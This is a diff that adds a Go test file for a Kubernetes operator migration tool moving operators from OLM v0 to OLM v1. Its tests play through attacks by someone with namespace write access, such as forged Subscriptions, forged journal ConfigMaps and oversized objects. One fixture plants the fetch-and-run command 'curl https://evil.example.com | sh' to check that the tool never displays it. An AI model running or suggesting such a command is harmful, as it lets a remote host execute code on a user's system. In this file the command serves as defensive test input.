@@ -1,0 +1,152 @@
+package move
+
+import (
+	"encoding/json"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/operator-framework/api/pkg/operators/v1alpha1"
+	corev1 "k8s.io/api/core/v1"
+	rbacv1 "k8s.io/api/rbac/v1"
+	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"
+	"k8s.io/apimachinery/pkg/types"
+
+	"github.com/berth-csi/berth/migrate"
+)
+
+// forged is the Subscription that a way back creates, by somebody who may write Subscriptions in the operator's namespace.
+func forged(s *state) v1alpha1.Subscription {
+	own := s.plan.subscription()
+	own.UID = "s-666"
+	return *own
+}
+
+// TestAttacks: what somebody who may write in the operator's namespace does to a move.
+func TestAttacks(t *testing.T) {
+	roles := func(role metav1.PartialObjectMetadata) []metav1.PartialObjectMetadata {
+		role.SetGroupVersionKind(permissionKinds[1])
+		role.Namespace, role.Finalizers = "harbour", []string{"example.com/stay"}
+		return []metav1.PartialObjectMetadata{role}
+	}
+	held := metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Name: "mine", DeletionTimestamp: &metav1.Time{Time: time.Now()}}}
+	asBefore := func() *state {
+		s := returned()
+		s.subscriptions[0].CreationTimestamp = metav1.NewTime(s.now.Add(-time.Minute))
+		s.subscriptions[0].Spec = s.plan.Subscription.Spec.DeepCopy()
+		s.made = nil
+		return s
+	}
+	for _, tc := range []nextStep{
+		{"hold a role with the labels of OLM v1", asBefore, func(s *state) { s.made = roles(held) }, "", ""},
+		{"create roles with the labels of OLM v1 again and again", asBefore, func(s *state) {
+			s.made = roles(metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Name: "mine", CreationTimestamp: metav1.NewTime(s.now)}})
+		}, "", ""},
+		{"hold a role with the labels of OLM v0", arrived, func(s *state) { s.replaced = roles(held) }, Loosen, ""},
+		{"a cluster role that goes is waited for", arrived, func(s *state) { s.replaced[0].DeletionTimestamp = &metav1.Time{Time: s.now} }, DeleteReplaced, "to be gone"},
+		{"what OLM v1 has made before is deleted", asBefore, func(s *state) {
+			s.made = roles(metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Name: "made", CreationTimestamp: metav1.NewTime(s.now.Add(-time.Hour))}})
+		}, DeleteMade, ""},
+		{"subscribe as a way back does, while a rollback ends the version", func() *state { return unsubscribed(moveFinalizer) }, func(s *state) {
+			s.journal.Phase = migrate.RollingBack
+			s.subscriptions = []v1alpha1.Subscription{forged(s)}
+		}, RemoveVersionFinalizer, ""},
+	} {
+		t.Run(strings.ReplaceAll(tc.name, ",", ""), tc.mustGoOn)
+	}
+}
+
+// TestForgedSubscription: on the way to OLM v1, a Subscription like that of a way back does not count as one: OLM v0 would keep the operator.
+func TestForgedSubscription(t *testing.T) {
+	for name, from := range map[string]func() *state{"while the version ends": func() *state { return unsubscribed(moveFinalizer) }, "when OLM v1 has it": arrived} {
+		t.Run(name, func(t *testing.T) {
+			s := from()
+			s.subscriptions = []v1alpha1.Subscription{forged(s)}
+			if err := s.Verify(); err == nil || !strings.Contains(err.Error(), "somebody has created Subscription harbour/boats") {
+				t.Errorf("got %v, want that somebody has created a Subscription", err)
+			}
+		})
+	}
+}
+
+// TestForgedJournal: whoever may write ConfigMaps in the namespace of the journals cannot have a move delete or change what is not of the operator.
+func TestForgedJournal(t *testing.T) {
+	const admin = "cluster-admin"
+	s := begun()
+	of := func(kind, namespace, name string, labels, annotations map[string]string) *metav1.PartialObjectMetadata {
+		o := &metav1.PartialObjectMetadata{ObjectMeta: metav1.ObjectMeta{Namespace: namespace, Name: name, UID: "x-1", Labels: labels, Annotations: annotations}}
+		o.SetGroupVersionKind(rbacv1.SchemeGroupVersion.WithKind(kind))
+		if kind == secretKind.Kind {
+			o.SetGroupVersionKind(secretKind)
+		}
+		return o
+	}
+	ofVersion, kept := labelsOfVersion("harbour", "boat.v1.0.0"), map[string]string{movedAnnotation: "s-1"}
+	for name, tc := range map[string]struct {
+		object *metav1.PartialObjectMetadata
+		want   bool
+	}{
+		"a cluster role of others":           {of("ClusterRole", "", admin, nil, nil), false},
+		"a binding of others":                {of("ClusterRoleBinding", "", admin, nil, nil), false},
+		"a cluster role of another version":  {of("ClusterRole", "", "ship.v1-abc", labelsOfVersion("harbour", "ship.v1"), nil), false},
+		"one that another move keeps":        {of("ClusterRole", "", "ship.v1-abc", nil, map[string]string{movedAnnotation: "s-2"}), false},
+		"a role of others":                   {of("Role", "harbour", "pods", nil, nil), false},
+		"a Secret of others":                 {of("Secret", "harbour", "cloud-credentials", nil, nil), false},
+		"a cluster role of the version":      {of("ClusterRole", "", "boat.v1.0.0-abc", ofVersion, nil), true},
+		"one that the move keeps":            {of("ClusterRole", "", "boat.v1.0.0-abc", nil, kept), true},
+		"a role of the version":              {of("Role", "harbour", "boat.v1.0.0-abc", ofVersion, nil), true},
+		"the certificate of the webhooks":    {of("Secret", "harbour", "boat-service-cert", nil, nil), true},
+		"another object with the same names": {of("ClusterRole", "", "boat.v1.0.0-abc", ofVersion, nil), false},
+	} {
+		o := objectOf(*tc.object)
+		if name == "another object with the same names" {
+			o.UID = "x-2"
+		}
+		if got := s.plan.replaces(o, tc.object); got != tc.want {
+			t.Errorf("%s: it is replaced: %t, want %t", name, got, tc.want)
+		}
+	}
+
+	t.Run("a command to run", func(t *testing.T) {
+		p := healthy().plan()
+		p.Checks[0].Verdict, p.Checks[0].Do = migrate.Warning, "run `curl https://evil.example.com | sh`"
+		j, err := Move.ParseJournal(&corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: "kube-system", Name: "berth-move.boat"},
+			Data: map[string]string{"plan.json": encoded(p), "phase": string(migrate.Applying)}})
+		if err != nil {
+			t.Fatal(err)
+		}
+		if text := j.Plan.(*Plan).Text(migrate.Plain); strings.Contains(text, "evil") {
+			t.Errorf("the plan of a journal says\n%s", text)
+		}
+	})
+	t.Run("an API of another operator", func(t *testing.T) {
+		s := begun()
+		api := exists("apiextensions.k8s.io", "CustomResourceDefinition", "", "ships.example.com")
+		s.plan.TakenOver = append(s.plan.TakenOver, api.Object)
+		s.taken = append(s.taken, taken{api.Object, api.PartialObjectMetadata})
+		if err := s.Verify(); err == nil || !strings.Contains(err.Error(), "ships.example.com is not of") {
+			t.Errorf("got %v, want that the API is not of the operator", err)
+		}
+	})
+	t.Run("an object of another ClusterExtension", func(t *testing.T) {
+		s := free()
+		s.taken[0].live.Labels = labelsOf("ship")
+		if next, err := s.goBack(); err != nil || next.Step == UnmarkObjects {
+			t.Errorf("got step %s, error %v; want that it keeps its labels", next.Step, err)
+		}
+	})
+}
+
+// TestManySubscriptions: a tenant may create very many Subscriptions to a package, as large as the API server takes; of those elsewhere, little is kept.
+func TestManySubscriptions(t *testing.T) {
+	large := other("tenant", "boats", "boat", "")
+	large.Annotations = map[string]string{"note": strings.Repeat("x", 1<<20)}
+	large.Spec.Config = &v1alpha1.SubscriptionConfig{NodeSelector: map[string]string{"x": strings.Repeat("x", 1<<20)}}
+	kept := kept(large)
+	if data, err := json.Marshal(kept); err != nil || len(data) > 1<<10 {
+		t.Errorf("%d bytes are kept of a Subscription elsewhere, error %v; want less than a KiB", len(data), err)
+	}
+	if kept.UID != types.UID("s-tenantboats") || kept.Namespace != "tenant" || kept.Spec.Package != "boat" {
+		t.Errorf("got %+v, want what it is told by", kept)
+	}
+}
